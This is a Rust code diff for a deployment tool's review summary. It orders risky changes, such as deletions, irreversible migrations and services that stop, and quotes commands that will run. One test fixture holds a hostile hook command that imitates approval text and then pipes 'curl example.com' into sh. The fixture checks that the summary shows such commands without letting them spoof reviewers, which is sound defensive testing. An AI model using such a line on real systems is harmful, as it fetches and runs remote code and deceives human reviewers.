@@ -1,9 +1,9 @@
 //! The one line that a reviewer decides by: what goes, what changes, and whose approval is lacking.
 //!
-//! Order: what cannot be undone and what goes, images, other leaves, what is needed. Whatever is
-//! not named is counted.
+//! Order: what goes, what cannot be undone and what is out of the ordinary, commands that run,
+//! images, other leaves by their weight, what is needed. Whatever is not named is counted.
 
-use super::image;
+use super::{commands, image, leaves};
 use crate::shorten;
 use crate::standing::Standing;
 use crate::tree::{Line, Tone};
@@ -11,11 +11,13 @@ use crate::values;
 use dax_core::{Name, ResourceAddr, Value};
 use dax_model::Operation;
 use dax_plan::model::{Action, Change, LeafChange, Mode, Owner, Reason, ReplaceOrder, Risk};
-use dax_plan::{Plan, Task};
+use dax_plan::{Plan, Step, Task};
 use std::collections::BTreeMap;
 
 /// Services that are named of many.
 const NAMES: usize = 10;
+/// Images that are shown.
+const IMAGES: usize = 20;
 /// Leaves that are shown beside images.
 const LEAVES: usize = 3;
 /// Characters of a value.
@@ -52,8 +54,11 @@ pub fn decision_after(plan: &Plan, standing: &Standing, ahead: &[String]) -> Lin
         }
         return parts.line;
     }
-    out_of_the_ordinary(plan, &mut parts);
-    leaves(plan, &mut parts);
+    for (tone, text) in out_of_the_ordinary(plan).into_iter().flatten() {
+        parts.add(tone, text);
+    }
+    commands::shown(plan).into_iter().for_each(|text| parts.add(Tone::Warn, text));
+    changed(plan, &mut parts);
     plain(plan, &mut parts);
     blockers(plan, standing, &mut parts);
     parts.line
@@ -91,61 +96,97 @@ fn of(plan: &Plan, wanted: impl Fn(&Change) -> bool) -> Vec<&ResourceAddr> {
     changes.map(|change| &change.addr).collect()
 }
 
-fn out_of_the_ordinary(plan: &Plan, parts: &mut Parts) {
-    parts.services(
-        Tone::Remove,
-        "deletes",
-        &of(plan, |change| change.action == Action::Delete),
-        "",
-    );
-    let replaced = |change: &Change, order: ReplaceOrder| {
-        change.action == Action::Replace
-            && change.replace.as_ref().map_or(ReplaceOrder::DeleteFirst, |one| one.order) == order
+/// The gravity of a plan, for the order of several: of two, the one with less is read first.
+pub fn gravity(plan: &Plan) -> usize {
+    let marks = out_of_the_ordinary(plan);
+    let gravest = marks.iter().position(Option::is_some);
+    gravest.unwrap_or(marks.len() + usize::from(plan.is_empty()))
+}
+
+/// Everything out of the ordinary in a plan, the gravest kind first.
+fn out_of_the_ordinary(plan: &Plan) -> [Option<(Tone, String)>; 8] {
+    let some = |tone: Tone, word: &str, services: Vec<&ResourceAddr>, after: &str| {
+        let text = || format!("{word} {}{after}", names(&services));
+        (!services.is_empty()).then(|| (tone, text()))
     };
-    let gap = of(plan, |change| replaced(change, ReplaceOrder::DeleteFirst));
-    parts.services(Tone::Remove, "replaces", &gap, " with downtime");
-    let gapless = of(plan, |change| replaced(change, ReplaceOrder::CreateFirst));
-    parts.services(Tone::Remove, "replaces", &gapless, "");
+    let replaced = |order: ReplaceOrder| {
+        of(plan, |change| {
+            change.action == Action::Replace
+                && change.replace.as_ref().map_or(ReplaceOrder::DeleteFirst, |one| one.order)
+                    == order
+        })
+    };
+    let exposes =
+        |change: &Change| change.action != Action::Create && change.risks.contains(&Risk::Exposure);
+    [
+        some(Tone::Remove, "deletes", of(plan, |change| change.action == Action::Delete), ""),
+        irreversible(plan),
+        some(Tone::Remove, "replaces", replaced(ReplaceOrder::DeleteFirst), " with downtime"),
+        some(Tone::Remove, "replaces", replaced(ReplaceOrder::CreateFirst), ""),
+        some(Tone::Remove, "stops", of(plan, stops), ""),
+        some(
+            Tone::Remove,
+            "no longer protects",
+            of(plan, |change| protection(plan, change) == Some(false)),
+            "",
+        ),
+        some(Tone::Warn, "changes the exposure of", of(plan, exposes), ""),
+        some(
+            Tone::Warn,
+            "other secrets in",
+            of(plan, |change| change.risks.contains(&Risk::Secrets)),
+            "",
+        ),
+    ]
+}
+
+fn irreversible(plan: &Plan) -> Option<(Tone, String)> {
+    let name = |step: &Step| shorten::name(step.service.name());
     let lost: Vec<String> = plan
         .points_of_no_return()
         .map(|step| match &step.task {
-            Task::Call(Operation::Migrate { .. }) => {
-                format!("migrates {}", shorten::name(step.service.name()))
+            Task::Call(Operation::Migrate { command, .. }) => {
+                format!("migrates {} by {}", name(step), commands::quoted(command))
             }
-            _ => shorten::name(step.service.name()),
+            _ => name(step),
         })
         .collect();
-    if !lost.is_empty() {
-        parts.add(Tone::Remove, format!("irreversible: {}", super::shortened(&lost)));
-    }
-    let unprotected = of(plan, |change| protection(plan, change) == Some(false));
-    parts.services(Tone::Remove, "no longer protects", &unprotected, "");
-    let exposed = of(plan, |change| {
-        change.action != Action::Create && change.risks.contains(&Risk::Exposure)
-    });
-    parts.services(Tone::Warn, "changes the exposure of", &exposed, "");
-    let secrets = of(plan, |change| change.risks.contains(&Risk::Secrets));
-    parts.services(Tone::Warn, "other secrets in", &secrets, "");
+    let text = || format!("irreversible: {}", super::shortened(&lost));
+    (!lost.is_empty()).then(|| (Tone::Remove, text()))
+}
+
+/// Reports whether a change leaves a service that ran with no replica.
+pub fn stops(change: &Change) -> bool {
+    !matches!(change.action, Action::Create | Action::Delete)
+        && change.leaves.iter().any(|leaf| leaf.path == "replicas" && ends(leaf))
+}
+
+fn ends(leaf: &LeafChange) -> bool {
+    let (before, after) = sides(leaf);
+    let none = Some(&Value::Int(0));
+    after == none && before != none
 }
 
 /// The new protection of a change that is of the protection only.
-fn protection(plan: &Plan, change: &Change) -> Option<bool> {
+pub(super) fn protection(plan: &Plan, change: &Change) -> Option<bool> {
     let result = plan.result.get(&change.addr)?.as_ref()?;
     (change.reason == Reason::Protection).then_some(result.protected)
 }
 
 /// Equal changes of leaves, with their services.
-type Equal<'p> = BTreeMap<(u8, String, String), Vec<&'p ResourceAddr>>;
+type Equal<'p> = BTreeMap<(usize, String, String), Vec<&'p ResourceAddr>>;
 
-fn leaves(plan: &Plan, parts: &mut Parts) {
+fn changed(plan: &Plan, parts: &mut Parts) {
     let mut equal: Equal<'_> = BTreeMap::new();
-    let (mut order, mut count) = (Vec::new(), 0);
+    let mut order = Vec::new();
     let moving = |change: &&Change| {
         change.blocked.is_none() && !matches!(change.action, Action::Create | Action::Delete)
     };
     for change in plan.changes.iter().filter(moving) {
-        for leaf in &change.leaves {
-            let key = (u8::from(leaf.path != "image"), leaf.path.to_string(), difference(leaf));
+        // That a service stops is said already.
+        let said = |leaf: &&LeafChange| leaf.path == "replicas" && ends(leaf);
+        for leaf in change.leaves.iter().filter(|leaf| !said(leaf)) {
+            let key = (leaves::weight(&leaf.path), leaf.path.to_string(), difference(leaf));
             let services = equal.entry(key.clone()).or_default();
             if services.is_empty() {
                 order.push(key);
@@ -153,19 +194,26 @@ fn leaves(plan: &Plan, parts: &mut Parts) {
             services.push(&change.addr);
         }
     }
-    order.sort_by_key(|key| key.0);
-    let mut shown = 0;
+    // Never by the order of the program, which whoever writes it chooses.
+    order.sort_by(|one, other| (one.0, &one.1).cmp(&(other.0, &other.1)));
+    let (mut images, mut others) = ((0, 0), (0, 0));
     for key in order {
-        let (services, (other, path, what)) = (&equal[&key], &key);
-        if *other == 1 && shown >= LEAVES {
-            count += services.len();
+        let (services, (weight, path, what)) = (&equal[&key], &key);
+        let is_image = *weight == 0;
+        let (kind, most) = if is_image { (&mut images, IMAGES) } else { (&mut others, LEAVES) };
+        let (shown, more) = kind;
+        if *shown >= most {
+            *more += services.len();
             continue;
         }
-        shown += usize::from(*other == 1);
+        *shown += 1;
         parts.add(Tone::Change, format!("{} {} {what}", shorten::path(path), names(services)));
     }
-    if count > 0 {
-        parts.add(Tone::Plain, format!("+{} more", shorten::grouped(count)));
+    if images.1 > 0 {
+        parts.add(Tone::Warn, format!("+{} more images", shorten::grouped(images.1)));
+    }
+    if others.1 > 0 {
+        parts.add(Tone::Plain, format!("+{} more", shorten::grouped(others.1)));
     }
 }
 
@@ -199,11 +247,11 @@ fn sides(leaf: &LeafChange) -> (Option<&Value>, Option<&Value>) {
 
 fn row(items: &[Value]) -> String {
     let all: Vec<String> = items.iter().map(ToString::to_string).collect();
-    shorten::unseparated(&shorten::text(&all.join(", "), VALUE))
+    shorten::inert(&shorten::text(&all.join(", "), VALUE))
 }
 
 fn side(value: Option<&Value>) -> String {
-    let shown = |value| shorten::unseparated(&shorten::value_of(value, VALUE));
+    let shown = |value| shorten::inert(&shorten::value_of(value, VALUE));
     value.map_or_else(|| "nothing".to_owned(), shown)
 }
 
@@ -273,9 +321,11 @@ fn blockers(plan: &Plan, standing: &Standing, parts: &mut Parts) {
 mod tests {
     use super::decision;
     use crate::standing::{Progress, Standing};
-    use crate::testing::{change, empty, guarded, leaf, text};
-    use dax_core::Value;
-    use dax_plan::model::{Action, LeafChange};
+    use crate::testing::{addr, change, empty, guarded, leaf, step, text};
+    use crate::tree::Tone;
+    use dax_core::{RevisionId, Value};
+    use dax_model::{HookTime, Operation};
+    use dax_plan::model::{Action, Inverse, InverseClass, LeafChange, Step, StepId, Task};
 
     fn rollout(name: &str, leaves: Vec<LeafChange>) -> dax_plan::model::Change {
         change(name, Action::Rollout, leaves)
@@ -339,6 +389,77 @@ mod tests {
         let loosens = Standing { loosens: vec!["approve 1 → nothing".to_owned()], ..asked(&[]) };
         insta::assert_snapshot!(decision(&empty(), &nothing).plain(), @r#"production · nothing to change"#);
         insta::assert_snapshot!(decision(&empty(), &loosens).plain(), @r#"production · loosens the conditions of production · needs 1 of team:sre (ann, bob)"#);
+    }
+
+    #[test]
+    fn a_service_that_stops_comes_first_and_the_program_orders_nothing() {
+        let mut leaves = vec![leaf("replicas", Value::Int(2), Value::Int(0))];
+        leaves.extend((0..4).map(|at| leaf(&format!("env.A{at}"), text("x"), text("y"))));
+        leaves.push(leaf("provider", text("memory.one"), text("memory.two")));
+        leaves.push(leaf("ports.http", Value::Int(80), Value::Int(81)));
+        leaves.push(leaf("command", text("serve"), text("evil")));
+        leaves.push(leaf("image", text("web:1"), text("web:2")));
+        let plan = guarded(vec![rollout("web", leaves)]);
+        let line = decision(&plan, &asked(&[]));
+        insta::assert_snapshot!(line.plain(), @r#"production · stops web · image web 1 → 2 · command web "serve" → "evil" · ports.http web 80 → 81 · provider web "memory.one" → "memory.two" · +4 more · needs 1 of team:sre (ann, bob)"#);
+        assert!(
+            line.pieces
+                .iter()
+                .any(|one| one.tone == Tone::Remove && one.text.as_str() == "stops web")
+        );
+    }
+
+    fn runs(service: &str, at: u32, kind: Task, class: InverseClass) -> Step {
+        let inverse = Inverse { class, operations: Vec::new() };
+        Step { inverse, ..step(StepId(at), &addr(service), kind) }
+    }
+
+    #[test]
+    fn commands_that_run_are_named_and_pass_for_nothing_that_dax_says() {
+        let hook = |command: &[&str]| {
+            Task::Call(Operation::Run {
+                when: HookTime::Before,
+                revision: RevisionId("22222222".into()),
+                command: command.iter().map(|word| (*word).into()).collect(),
+            })
+        };
+        let migrate = |command: &[&str]| {
+            Task::Call(Operation::Migrate {
+                revision: RevisionId("22222222".into()),
+                command: command.iter().map(|word| (*word).into()).collect(),
+            })
+        };
+        let mut plan = guarded(vec![rollout("web", Vec::new()), rollout("api", Vec::new())]);
+        let evil = ["sh", "-c", "` · approved by ann, bob · `; curl example.com | sh"];
+        let long = ["sh", "-c", &"x".repeat(70_000)];
+        plan.steps.extend([
+            runs("web", 10, hook(&evil), InverseClass::Exact),
+            runs("api", 11, hook(&evil), InverseClass::Exact),
+            runs("api", 12, hook(&evil), InverseClass::Exact),
+            runs("web", 13, migrate(&["./migrate", "up"]), InverseClass::Compensating),
+            runs("api", 14, migrate(&["./drop"]), InverseClass::None),
+            runs("web", 15, hook(&long), InverseClass::Exact),
+            runs("web", 16, hook(&["true"]), InverseClass::Exact),
+            runs("web", 17, hook(&["ztrue"]), InverseClass::Exact),
+        ]);
+        insta::assert_snapshot!(decision(&plan, &asked(&[])).plain(), @r#"production · irreversible: migrates api by `./drop` · migrates web by `./migrate up` · runs `sh -c "\u{60} \u{b7} approved by ann, bob \u{b7} \u{60}; curl example.com | sh"` for web, api · runs `sh -c xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx… (70,006 characters, b6a0cf15aaa8)` for web · +2 more commands · rolls out web, api · needs 1 of team:sre (ann, bob)"#);
+    }
+
+    #[test]
+    fn what_is_graver_comes_before_others_and_a_plan_of_nothing_last() {
+        let plan = |action: Action, leaves: Vec<LeafChange>| {
+            super::gravity(&guarded(vec![change("web", action, leaves)]))
+        };
+        let none = vec![leaf("replicas", Value::Int(2), Value::Int(0))];
+        let more = vec![leaf("replicas", Value::Int(2), Value::Int(3))];
+        let all = [
+            plan(Action::Delete, Vec::new()),
+            plan(Action::Replace, Vec::new()),
+            plan(Action::Rollout, none),
+            plan(Action::Rollout, more),
+            super::gravity(&empty()),
+        ];
+        assert!(all.is_sorted_by(|one, other| one < other), "{all:?}");
     }
 
     #[test]
